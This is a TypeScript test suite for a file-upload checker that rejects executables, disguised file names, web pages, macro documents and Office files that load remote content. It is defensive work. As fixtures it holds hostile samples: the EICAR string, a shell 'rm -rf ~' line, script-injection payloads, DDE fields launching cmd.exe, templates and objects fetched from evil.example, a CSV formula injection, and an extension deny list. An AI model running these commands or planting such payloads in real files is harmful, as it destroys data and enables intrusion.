import { describe, expect, test } from 'vitest';
import { checkFile } from '#functions/domain/documents/files/check.ts';
import { REFUSALS, type RefusalKind } from '#shared/rules/refusals.ts';
import { demoFile } from '../../../infra/local/demo/snapshot.ts';
import { compound, office, openDocument, zip } from '../../support/files/archives.ts';
import { EXE, hex, latin1, refuses, refusesName, refusesWithin } from '../../support/files/file-checks.ts';
import { compressedPdf, pdf } from '../../support/files/pdfs.ts';

const PDF = pdf();
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** Extensions by the reason to reject them. */
const EXTENSIONS = {
  program: `exe dll com scr pif cpl bat cmd ps1 psm1 vbs vbe js mjs jse wsf wsh hta jar class apk ipa app sh bash reg inf
    gadget msc py pl rb php mdb one terminal mobileconfig prg shs`,
  shortcut: 'lnk url scf webloc desktop website rdp udl searchconnector-ms',
  disk: 'msi dmg pkg deb rpm iso img vhd vhdx msix',
  page: 'html htm xhtml xht shtml mhtml mht svg svgz',
  macros: 'docm dotm xlsm xltm xlam pptm potm ppam ppsm xla',
} satisfies Partial<Record<RefusalKind, string>>;

describe('a dangerous file extension', () => {
  const each = Object.entries(EXTENSIONS) as [RefusalKind, string][];
  test.each(each.flatMap(([kind, list]) => list.split(/\s+/).map((extension) => [extension, kind] as const)))(
    'is rejected with any content: .%s, as it is of the kind “%s”',
    (extension, kind) => refusesName(kind, extension)(`letter.${extension}`, PDF),
  );

  const DISGUISED: Record<string, string[]> = {
    'more of a name': ['invoice.pdf.exe', 'My invoice.exe', 'invoice@firm.exe', '.exe'],
    capitals: ['INVOICE.EXE'],
    'spaces or dots after it': ['invoice.exe ', 'invoice.exe...', 'invoice.exe. . ', 'invoice.exe\u00a0'],
    'invisible characters': ['invoice.exe\u200b', 'invoice.e\u200dxe', 'invoice.exe\u3164'],
    'wide characters': ['invoice\uff0eexe', 'invoice.\uff45\uff58\uff45'],
    'a right-to-left override': ['invoice\u202efdp.exe'],
    'a stream': ['invoice.exe:pdf', 'invoice.exe::$DATA', 'invoice.exe:a.pdf', 'invoice.exe: :$DATA', 'invoice.exe: '],
  };
  test.each(Object.entries(DISGUISED))('is rejected in disguise: %s', async (_, names) => {
    for (const name of names) await refusesName('program', 'exe')(name, PDF);
  });

  test('is not found elsewhere in a name', async () => {
    const names = ['exe', 'letter.exe.pdf', 'letter exe', 'a.execution', 'letter.com.pdf', 'e.x.e.pdf'];
    for (const name of [...names, 'Re: 12.05.2026.pdf'])
      expect(await checkFile(name, PDF), name).toMatchObject({ type: 'application/pdf' });
  });
});

describe('a name that ends in an address or a sentence', () => {
  const PNG = hex('89504e470d0a1a0a0000000d494844520000000100000001');
  const LONG = `${'a '.repeat(125)}b.com`;

  test.each<[string, Buffer, string]>([
    ['pension@aviva.com', PDF, 'pension@aviva.com.pdf'],
    ['www.aviva.com', PDF, 'www.aviva.com.pdf'],
    ['Statement from hsbc.com', PNG, 'Statement from hsbc.com.png'],
    ['Statement from hsbc.com.', PDF, 'Statement from hsbc.com..pdf'],
    ['Statement.pdf from hsbc.com', PDF, 'Statement.pdf from hsbc.com.pdf'],
    ['Letter for Mr.Job', hex('ffd8ffe000104a46494600'), 'Letter for Mr.Job.jpg'],
    ['P60 for St.Inf', PDF, 'P60 for St.Inf.pdf'],
    ['Re: www.aviva.com', PDF, 'Re: www.aviva.com.pdf'],
    [LONG, PDF, `${LONG.slice(0, 251)}.pdf`],
  ])('%j is stored with the extension of its content', async (name, bytes, kept) => {
    const { name: stored = name } = await checkFile(name, bytes);
    expect(stored).toBe(kept);
  });

  test.each([
    'www.aviva.com: my plan.pdf',
    'Notes re: bt.com:2026.pdf',
    'Re: your order.py: page 1.pdf',
    'Plan.app: valuation.pdf',
    'Quote: A.Pl: final.pdf',
    'setup.exe: how to.pdf',
    'Aviva.com - plan.pdf',
    'Scan 12:30.pdf',
  ])('%j has an extension and is stored unchanged', async (name) =>
    expect(await checkFile(name, PDF)).toEqual({ type: 'application/pdf', preview: true }),
  );

  test.each<[string, Buffer, string]>([
    ['My invoice.pdf.com', PDF, 'com'],
    ['My invoice.pdf. .com', PDF, 'com'],
    ['My .com', PDF, 'com'],
    ['My invoice.exe.com', PDF, 'com'],
    ['Statement from hsbc.com', latin1('a text'), 'com'],
    ['Statement from hsbc.com', zip([{ name: 'a.txt', content: 'x' }]), 'com'],
    ['Statement from hsbc.com', Buffer.concat([latin1(' '), PDF]), 'com'],
    ['bt.com:2026.txt', latin1('a text'), 'com'],
    ['bt.com:2026', PDF, 'com'],
    ['Re: bt.com::$DATA', PDF, 'com'],
    ['Letter for Mr.Job', compound(['Contents']), 'job'],
  ])('%j is rejected for its extension', (name, bytes, ending) => refusesName('program', ending)(name, bytes));

  test('does not hide a program or a web page', async () => {
    await refuses('program')('Statement from hsbc.com.pdf', EXE);
    await refuses('page')('Statement from hsbc.com', latin1('<!-- %PDF-1.7 --><html>'));
    const jar = Buffer.concat([PDF, zip([{ name: 'run.class', content: 'x' }])]);
    await refusesWithin(jar, /ending “.class”. This file holds a program/, 'Statement from hsbc.com');
  });
});

describe('the detection of programs by their bytes', () => {
  test.each<[string, Buffer, RefusalKind]>([
    ['Windows', EXE, 'program'],
    ['Linux', hex('7f454c46020101'), 'program'],
    ['macOS', hex('cffaedfe07000001'), 'program'],
    ['macOS with two architectures, or Java', hex('cafebabe00000002'), 'program'],
    ['Android', hex('6465780a30333500'), 'program'],
    ['WebAssembly', hex('0061736d01000000'), 'program'],
    ['a shell', latin1('#!/bin/sh\nrm -rf ~\n'), 'program'],
    ['a shell, after a byte order mark', latin1('\xef\xbb\xbf#! /usr/bin/env python3\n'), 'program'],
    ['a shortcut', hex('4c0000000114020000000000c000000000000046'), 'shortcut'],
    ['an installer', compound(['Property'], { classId: '84100c0000000000c000000000000046' }), 'disk'],
    ['a macOS disk image', Buffer.concat([Buffer.alloc(2048), latin1('koly'), Buffer.alloc(508)]), 'disk'],
    ['a CD image', Buffer.concat([Buffer.alloc(0x8001), latin1('CD001'), Buffer.alloc(2048)]), 'disk'],
    [
      'a package of Debian',
      latin1('!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n'),
      'disk',
    ],
    ['a package of Red Hat', hex('edabeedb03000000'), 'disk'],
    ['a Flash film', latin1('CWS\x0a\x10\0\0\0abc'), 'program'],
    ['a Chrome extension', latin1('Cr24\x03\0\0\0abc'), 'program'],
  ])('rejects a program under any name: %s', (_, bytes, kind) => refuses(kind)('letter.pdf', bytes));

  test('accepts a text with a similar beginning', async () => {
    for (const text of ['MZ is what they call Mozambique', '# A heading', 'BMW lease, three years', 'dexterity', 'L'])
      expect(await checkFile('notes.txt', latin1(text))).toEqual({ type: 'text/plain', preview: true });
  });
});

test.each([
  ['', ''],
  ['', ' \t\n'],
  [' ', ''],
  ['\r\n\t', '\r\n'],
  ['\xef\xbb\xbf', ''],
])('the EICAR test file is rejected with %j before and %j after it', async (before, after) => {
  const bytes = latin1(before + EICAR + after);
  for (const name of ['eicar.com.txt', 'statement.pdf']) await refuses('virus')(name, bytes);
  await refusesWithin(zip([{ name: 'statement.pdf', content: bytes }]), /virus test file/);
});

describe('a web page or drawing', () => {
  test.each([
    '<!doctype html><script>alert(1)</script>',
    '\xef\xbb\xbf\r\n  <HTML lang="en">',
    '<!-- a comment --><html>',
    `<!-- ${'a long comment '.repeat(6000)} --><html>`,
    '<!--><script>alert(1)</script>',
    '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x"><html/>',
    '<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<?xml version="1.0"?>\n<!-- Made by a tool -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY a "b">]>\n<svg>',
    '<!DOCTYPE x [<!ENTITY a "]>">]><s:svg>',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="//evil.example">',
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html>',
  ])('is rejected under any name: %j', async (content) => {
    for (const name of ['statement.pdf', 'notes.txt', 'photo.jpg']) await refuses('page')(name, latin1(content));
    await refuses('page')('notes.txt', Buffer.from(`\ufeff${content.replace('\xef\xbb\xbf', '')}`, 'utf16le'));
  });

  test.each([
    ['data.xml', '<?xml version="1.0"?><title>Plans</title>', 'application/xml'],
    ['data.xml', '<?xml version="1.0"?><!DOCTYPE plans><plans><html/></plans>', 'application/xml'],
    ['notes.md', '<!-- for myself -->\n# Pensions', 'text/plain'],
    ['notes.txt', 'My <script> is bad', 'text/plain'],
    ['notes.txt', '<ruth@firm.example> wrote:', 'text/plain'],
    ['data.json', '{"html": "<html>"}', 'application/octet-stream'],
    [
      'mail.eml',
      'From: a@b.example\r\nTo: c@d.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b',
      undefined,
    ],
  ])('is not confused with %s that contains %j', async (name, content, type) =>
    expect(await checkFile(name, latin1(content))).toMatchObject({ ...(type && { type }) }),
  );
});

describe('an Office document with macros', () => {
  const sheet = (kind: number) => Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...latin1('Sheet1')]);
  test.each<[string, Buffer]>([
    ['letter.docx', office('docx', { name: 'word/vbaProject.bin', content: 'x' })],
    ['letter.xlsb', office('xlsx', { name: 'xl/vbaProject.bin', content: 'x' })],
    ['letter.xlsx', office('xlsx', { name: 'XL/VBAPROJECT.BIN', content: 'x' })],
    ['letter.xlsx', office('xlsx', { name: 'xl/macrosheets/sheet1.xml', content: 'x' })],
    ['letter.docx', office('docm')],
    ['letter.pdf', office('docm')],
    ['letter.doc', compound(['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT'])],
    ['table.xls', compound(['Workbook', '_VBA_PROJECT_CUR'])],
    ['table.xls', compound(['Workbook'], { content: sheet(1) })],
    [
      'slides.ppt',
      compound(['PowerPoint Document'], { content: Buffer.from('1f00ff0314000000020000040c00000001000000', 'hex') }),
    ],
    ['letter.odt', openDocument('text', { name: 'Basic/Standard/Module1.xml', content: 'x' })],
    ['table.ods', openDocument('spreadsheet', { name: 'Scripts/python/x.txt', content: 'x' })],
    ['letter.xml', latin1('<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>')],
    ['letter.fodt', latin1('<?xml version="1.0"?><office:document><script:module script:name="a"/></office:document>')],
  ])('is rejected under any name: %s', (name, bytes) => refuses('macros')(name, bytes));

  test('is rejected inside an archive', async () => {
    const docm = office('docx', { name: 'word/vbaProject.bin', content: 'x' });
    await refusesWithin(zip([{ name: 'a.docx', content: docm }]), /holds an Office document with macros/);
    await refusesWithin(zip([{ name: 'a.xls', content: compound(['VBA']) }]), /holds an Office document with macros/);
  });

  test.each<[string, Buffer, string]>([
    ['letter.doc', compound(['WordDocument', '1Table']), 'application/msword'],
    ['table.xls', compound(['Workbook'], { content: sheet(0) }), 'application/vnd.ms-excel'],
    ['mail.msg', compound(['__properties_version1.0']), 'application/vnd.ms-outlook'],
    ['anything', compound(['Contents']), 'application/octet-stream'],
    [
      'letter.odt',
      openDocument('text', { name: 'Configurations2/accelerator/current.xml', content: '' }),
      'application/vnd.oasis.opendocument.text',
    ],
    [
      'scripts.zip',
      zip([
        { name: 'Scripts/Act one.txt', content: 'x' },
        { name: 'Basic/facts.txt', content: 'x' },
      ]),
      'application/zip',
    ],
  ])('is not confused with %s without macros, which is accepted', async (name, bytes, type) =>
    expect(await checkFile(name, bytes)).toEqual({ type, preview: false }),
  );
});

describe('an Office document with an attached template', () => {
  const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
  const withTemplate = (target: string, type = TYPE) =>
    office('docx', {
      name: 'word/_rels/settings.xml.rels',
      content: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    });

  test.each([
    'https://evil.example/a.dotm',
    '\\\\evil.example\\share\\a.dotm',
    'file:///\\\\evil.example\\share\\a.dotm',
    'file://evil.example/share/a.dotm',
    '&#104;ttp://evil.example/a.dotm',
  ])('from another computer is rejected: %s', async (target) => {
    await refuses('template')('letter.docx', withTemplate(target));
    await refuses('template')('letter.docx', withTemplate(target, TYPE.replace('Template', '&#x54;emplate')));
    await refusesWithin(zip([{ name: 'a.docx', content: withTemplate(target) }]), /loads a template/);
  });

  test.each(['file:///C:\\Users\\Ann\\Templates\\Letter.dotx', 'file:///Users/ann/Normal.dotm', 'Normal.dotm'])(
    'from its own drive is accepted: %s',
    async (target) => expect(await checkFile('letter.docx', withTemplate(target))).toMatchObject({ preview: false }),
  );
});

const png = async () => Buffer.from(await (await demoFile('Passport.png')).arrayBuffer());
const box = (brand: string) =>
  Buffer.concat([Buffer.from([0, 0, 0, 24]), latin1(`ftyp${brand}\0\0\0\0mif1${brand}`), Buffer.alloc(64)]);
const wordDocument = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

test.each<[string, () => Buffer | Promise<Buffer>, string, boolean]>([
  ['passport.pdf', () => PDF, 'application/pdf', true],
  ['statement.pdf', () => compressedPdf(), 'application/pdf', true],
  ['form.pdf', () => pdf('/OpenAction << /S /JavaScript >>'), 'application/pdf', false],
  ['passport.png', png, 'image/png', true],
  ['photo.jpg', () => hex('ffd8ffe000104a46494600ffc000110800100010'), 'image/jpeg', false],
  ['photo.jpg', () => hex('ffd8ffe0000461620000ffc000110800100010'), 'image/jpeg', true],
  ['photo.webp', () => latin1('RIFF\x24\0\0\0WEBPVP8 \x0a\0\0\0\0\0\0\x9d\x01\x2a\x01\0\x01\0'), 'image/webp', true],
  ['scan.gif', () => latin1('GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;'), 'image/gif', true],
  ['IMG_1.HEIC', () => box('heic'), 'image/heic', false],
  ['IMG_1.heif', () => box('mif1'), 'image/heif', false],
  ['photo.avif', () => box('avif'), 'image/avif', false],
  ['scan.tiff', () => hex('49492a0008000000'), 'image/tiff', false],
  ['scan.bmp', () => hex('424d3600000000000000'), 'image/bmp', false],
  ['letter.docx', () => office('docx'), wordDocument, false],
  ['letter.docx', () => office('docx', { name: 'word/media/image1.svg', content: '<svg/>' }), wordDocument, false],
  ['table.xlsx', () => office('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', false],
  [
    'slides.pptx',
    () => office('pptx'),
    'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    false,
  ],
  ['letter.odt', () => openDocument('text'), 'application/vnd.oasis.opendocument.text', false],
  ['table.ods', () => openDocument('spreadsheet'), 'application/vnd.oasis.opendocument.spreadsheet', false],
  ['notes.txt', () => latin1('Hello'), 'text/plain', true],
  ['notes.txt', () => latin1('Zu\xf1iga, \x80 5'), 'text/plain', true],
  ['notes.txt', () => Buffer.from('\ufeffHello', 'utf16le'), 'text/plain', true],
  ['table.csv', () => latin1('=cmd|a,1\n'), 'text/plain', true],
  ['notes.md', () => latin1('# Pensions'), 'text/plain', true],
  ['notes.txt', () => latin1('hel\0lo'), 'application/octet-stream', false],
  ['letter.rtf', () => latin1('{\\rtf1\\ansi Hello}'), 'application/rtf', false],
  ['data.json', () => latin1('{"a": 1}'), 'application/octet-stream', false],
  ['voice.mp3', () => Buffer.concat([hex('fffb9064'), hex('fffb9064')]), 'audio/mpeg', false],
  ['voice.m4a', () => box('M4A '), 'audio/x-m4a', false],
  ['film.mp4', () => box('isom'), 'video/mp4', false],
  ['anything.bin', () => latin1('\x01\x02\x03'), 'application/octet-stream', false],
  ['pension.pdf', () => latin1('alert(1)'), 'application/octet-stream', false],
  ['one', () => latin1('x'), 'application/octet-stream', false],
])('a common file is accepted with its type and the right preview: %s (%#)', async (name, bytes, type, preview) =>
  expect(await checkFile(name, await bytes())).toEqual({ type, preview }),
);

test('every file rejection says what to send instead', () => {
  for (const sentence of Object.values(REFUSALS)) expect(sentence).toMatch(/Please (send|save)/);
});

describe('an Office document', () => {
  const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const withLink = (type: string, target: string, attributes = 'TargetMode="External"') =>
    office('docx', {
      name: 'word/_rels/document.xml.rels',
      content: `<Relationships><r:Relationship ${attributes} Target='${target}' Id="a>b" Type="${TYPES}/${type}"/></Relationships>`,
    });
  const withField = (...pieces: string[]) =>
    office('docx', {
      name: 'word/header1.xml',
      content: `<w:hdr><w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText xml:space="preserve">${piece}</w:instrText>`).join('</w:r><w:r>')}<w:fldChar w:fldCharType="end"/></w:hdr>`,
    });
  const withBook = (content: string) => office('xlsx', { name: 'xl/externalLinks/externalLink1.xml', content });
  const rich = (text: string) => latin1(`{\\rtf1\\ansi ${text}}`);
  const richField = (code: string) => rich(`{\\field{\\*\\fldinst ${code}}{\\fldrslt a}}`);
  const part = (name: string, content: string) => office('docx', { name, content });
  const open = (content: string) =>
    openDocument('text', {
      name: 'Object 1/content.xml',
      content: `<o:document-content>${content}</o:document-content>`,
    });
  const flat = (content: string) => latin1(`<?xml version="1.0"?>\n<office:document>${content}</office:document>`);
  const DDE = '<x:instrText>DDE cmd</x:instrText>';

  const LINKED = {
    'embeds an object from the web': withLink('oleObject', 'https://evil.example/a.html!'),
    'embeds an object from the web, in lower case': withLink(
      'oleObject',
      'mhtml:http://evil.example/a',
      'targetmode="external"',
    ),
    'loads a part of its text from another computer': withLink('aFChunk', '\\\\evil\\a.mht'),
    'loads a picture over HTTP': withLink('image', 'http://evil.example/a.png'),
    'loads a picture from another computer': withLink('image', 'file:////evil/a.png'),
    'starts a program by a field': withField(' DD', 'EAUTO c:\\\\cmd.exe '),
    'starts a program by a simple field': office('docx', {
      name: 'word/footer.xml',
      content: '<w:fldSimple w:instr=" DDE cmd">',
    }),
    'starts a program by a workbook link': withBook(
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>',
    ),
    'starts a program by a field with entities': withField(' &#68;D&#x45; cmd'),
    'starts a program by a field split by a comment': withField(' D<!-- > -->D<![CDATA[E]]> cmd'),
    'starts a program by a field with another prefix': part('word/glossary/document.xml', DDE),
    'starts a program by a field in any part': part('a/b', `\ufeff${' '.repeat(99)}<!-- a -->${DDE}`),
    'starts a program by a field within another': withField('QUOTE <w:fldChar w:fldCharType="begin"/>', 'DDE cmd'),
    'starts a program by a link in any part': office('xlsx', { name: 'xl/a.bin', content: '<a><x:ddeLink/></a>' }),
    'includes text from the web': withField('INCLUDETEXT "https://evil.example/a.docx"'),
    'includes text from another computer': withField('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'),
    'includes text from an address in a field': withField(
      'INCLUDETEXT <w:fldChar w:fldCharType="begin"/>',
      'QUOTE file://evil/a',
    ),
    'includes a picture over HTTP': withField('INCLUDEPICTURE \\d "http://evil.example/a.png"'),
    'links a workbook on another computer': withField('LINK Excel.Sheet.12 //evil/a.xlsx'),
    'uses a value of another program': open('<text:dde-connection-decl/>'),
    'uses a cell of another program': open('<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'),
    'loads a section from the web': open('<text:section-source xlink:href="https://evil.example/a.odt"/>'),
    'loads an object from another computer': open("<draw:object l:href='file:////evil/a.odt'/>"),
    'loads a picture from the web over HTTP': open('<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>'),
    'declares entities': latin1('<!DOCTYPE a [<!ENTITY a "<b>">]><o:document>&a;</o:document>'),
    'is a flat file with a DDE source': flat('<office:dde-source office:dde-application="cmd"/>'),
    'is a flat file with a section from the web': flat('<text:section-source xlink:href="http://evil.example/a"/>'),
    'is a flat package with a field that starts a program': latin1(
      `<pkg:package><pkg:part><pkg:xmlData>${DDE}</pkg:xmlData></pkg:part></pkg:package>`,
    ),
    'is a flat package with an object from the web': latin1(
      `<pkg:package><Relationship Type="${TYPES}/oleObject" Target="http://evil.example/a" TargetMode="External"/></pkg:package>`,
    ),
    'starts a program by a field in rich text': richField(' DDEAUTO c:\\\\\\\\cmd.exe'),
    'starts a program by a split field in rich text': richField("{\\b D}{\\*\\a b}\\'44\r\n\\uc2\\u69 ??\\bin1 } cmd"),
    'includes text in rich text': richField(' INCLUDETEXT "https://evil.example/a"'),
    'includes a picture in rich text': richField(' INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil\\\\a.png" \\\\d'),
    'updates an object in rich text after white space': latin1(`${' \n'.repeat(70)}{\\rtf1 {\\object\\objupdate}}`),
    'updates an object in rich text': rich('{\\object\\objautlink\\objupdate}'),
  };
  test.each(Object.entries(LINKED))('is rejected if it %s', async (_, bytes) => {
    await refuses('linked')('letter.docx', bytes);
    await refusesWithin(zip([{ name: 'a.docx', content: bytes }]), /loads? or runs? something from elsewhere/);
  });

  test.each(['{\\*\\template http://evil.example/a.dotm}', '{\\*\\template {}h{\\b ttp}://evil.example/a.dotm}'])(
    'is rejected if it is rich text that loads a template: %s',
    (text) => refuses('template')('letter.rtf', rich(text)),
  );

  test('is rejected if it is a flat file that loads a template', () =>
    refuses('template')('letter.fodt', flat('<meta:template xlink:href="http://evil.example/a.ott"/>')));

  const HARMLESS = {
    'has a link to the web': withLink('hyperlink', 'https://firm.example/a&amp;b'),
    'shows a picture from the web over HTTPS': withLink('image', 'https://firm.example/a.png'),
    'shows a picture from its own drive': withLink('image', 'file:///C:\\Pictures\\a.png'),
    'refers to another workbook in its folder': withLink('externalLinkPath', 'Pensions%202026.xlsx'),
    'has harmless fields': withField(' HYPERLINK "https://firm.example/DDE" '),
    'has a table of contents': withField('TOC \\o "1-3" \\h <w:fldChar w:fldCharType="separate"/>', 'PAGEREF _Toc1'),
    'has fields to fill in': withField('MERGEFIELD DDE \\* MERGEFORMAT</w:instrText><w:t>DDE</w:t><w:instrText>'),
    'includes text from its own drive': withField('INCLUDETEXT "C:\\\\My Docs\\\\a.docx" \\* MERGEFORMAT'),
    'includes text with links': withField(
      'INCLUDETEXT a.docx <w:fldChar w:fldCharType="separate"/>',
      'HYPERLINK "https://firm.example"',
    ),
    'has a picture pasted from an email': withField('INCLUDEPICTURE "https://firm.example/a.png" \\* MERGEFORMATINET'),
    'refers to a workbook on its own drive': withLink('externalLinkPath', 'file:///C:\\Pensions\\2026.xlsx'),
    'shows a picture in its folder': open('<draw:image xlink:href="../Pictures/a.png"/>'),
    'links to the web in OpenDocument': open('<text:a xlink:href="https://firm.example/a">a</text:a>'),
    'has objects and formulas': open(
      '<draw:object xlink:href="./Object 1"/><t:table-cell t:formula="of:=SUM([.A1])"/>',
    ),
    'is a flat file with a local template': flat(
      '<meta:template xlink:href="file:///C:/Letters/a.ott"/><text:p>DDE http://a.example</text:p>',
    ),
    'is XML of another kind': latin1('<xbrl><link:schemaRef xlink:href="http://www.xbrl.org/a.xsd"/></xbrl>'),
    'has links in rich text': richField('HYPERLINK "https://firm.example"'),
    'links workbooks': withBook('<externalLink><externalBook r:id="rId1"/></externalLink>'),
    'is rich text with a template from its own drive': rich('{\\*\\template C:\\\\Letters\\\\a.dot}{\\object\\objemb}'),
  };
  test.each(Object.entries(HARMLESS))('is accepted if it %s', async (_, bytes) =>
    expect(await checkFile('letter.docx', bytes)).toMatchObject({ preview: false }),
  );
});

describe('the limit of 50 million pixels in every frame', () => {
  const exactly = (digits: string) => Buffer.from(digits, 'hex');
  const png = (width: string, height: string) => exactly(`89504e470d0a1a0a0000000d49484452${width}${height}`);
  const jpeg = (...parts: string[]) => exactly(`ffd8ffe00004aabb${parts.join('')}`);
  const frame = (height: string, width: string) => `ffc0000908${height}${width}0000`;
  const [PHONE, HUGE] = [frame('1770', '1f40'), frame('ffff', 'ffff')];
  const SCAN = 'ffda000211ff0022ffd033';
  const gif = (...parts: string[]) =>
    exactly(`4749463839610100010080000000000000000021f901000021fe016100${parts.join('')}`);
  const [DOT, VAST] = ['2c0000000001000100000202440100', '2c00000000ffffffff000202440100'];
  const chunk = (name: string, content: string) => {
    const head = Buffer.from(`${name}\0\0\0\0`);
    head.writeUInt32LE(content.length / 2, 4);
    return head.toString('hex') + content;
  };
  const webp = (...chunks: string[]) => exactly(`524946460000000057454250${chunks.join('')}`);
  const CANVAS = chunk('VP8X', '00000000070000070000');
  const [LOSSY, LOSSLESS] = [chunk('VP8 ', '0000009d012a803e803e'), chunk('VP8L', '2fffffffff00')];
  const animated = (size: string, ...inner: string[]) =>
    webp(CANVAS, chunk('ANMF', `000000000000${size}00000000${inner.join('')}`));

  test.each<[string, Buffer, boolean]>([
    ['a PNG from a phone', png('00002328', '00001388'), true],
    ['a PNG of 900 million pixels', png('00007530', '00007530'), false],
    ['a truncated PNG', png('00002328', ''), false],
    ['a JPEG from a phone', jpeg(PHONE, SCAN, 'ffd90002', HUGE), true],
    ['a JPEG with fill bytes and invalid data', jpeg('0011ffff', HUGE), false],
    ['a JPEG with a second frame', jpeg(PHONE, SCAN, HUGE), false],
    ['a JPEG with its height after its scan', jpeg(frame('0000', '1f40'), SCAN, 'ffdc00041770'), false],
    ['a JPEG without a frame', jpeg(SCAN), false],
    ['a JPEG with a truncated frame', jpeg(PHONE.slice(0, 12)), false],
    ['a GIF of one pixel', gif(DOT, DOT, '3b'), true],
    ['a GIF truncated in a frame', gif(DOT, DOT.slice(0, -4)), true],
    ['a GIF with a huge screen', exactly(`474946383961ffffffff000000${DOT}3b`), false],
    ['a GIF frame larger than its screen', gif(VAST, '3b'), false],
    ['a GIF with a larger second frame', gif(DOT, VAST, '3b'), false],
    ['a GIF frame far outside its screen', gif(DOT.replace('2c00000000', '2cffffffff'), '3b'), false],
    ['a GIF with an unknown block', gif(DOT, '11'), false],
    ['a WebP from a phone', webp(chunk('VP8 ', '0000009d012a400b900b')), true],
    ['a WebP with a huge canvas', webp(chunk('VP8X', '00000000ffff00ffff00')), false],
    ['a lossless WebP with huge dimensions', webp(LOSSLESS), false],
    ['a WebP with a picture larger than its canvas', webp(CANVAS, LOSSY), false],
    ['a WebP of small frames', animated('070000070000', chunk('VP8L', '2f0000000000')), true],
    ['a WebP with a larger frame', animated('7f3e007f3e00'), false],
    ['a WebP with a large picture in a small frame', animated('070000070000', LOSSLESS), false],
    ['a WebP with frames in a frame', animated('070000070000', chunk('ANMF', '00'.repeat(16))), false],
    ['a WebP with an unknown first chunk', webp(chunk('ABCD', ''), chunk('VP8L', '2f0000000000')), false],
    ['a truncated WebP', webp(chunk('VP8 ', '0000009d012a400b900b00')).subarray(0, -1), false],
  ])('is respected by the preview of %s', async (_, bytes, preview) =>
    expect(await checkFile('photo', bytes)).toMatchObject({ preview }),
  );
});
